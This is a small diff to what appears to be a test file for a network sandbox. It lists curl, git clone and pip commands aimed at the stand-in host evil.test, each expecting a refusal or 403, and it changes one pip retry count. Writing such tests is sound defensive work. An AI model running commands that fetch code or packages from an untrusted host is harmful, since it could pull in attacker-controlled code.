@@ -185,7 +185,7 @@ REFUSED = {
     "curl, TLS": ("curl -sS https://evil.test/", "403"),
     "git": ("git clone -q https://evil.test/repo.git /tmp/x", "403"),
     "pip": (
-        f"{PIP} --retries 0 --index-url https://evil.test/simple/ x",
+        f"{PIP} --retries 1 --index-url https://evil.test/simple/ x",
         "stockade: evil.test is not on the --net allow list",
     ),
     "urllib": (
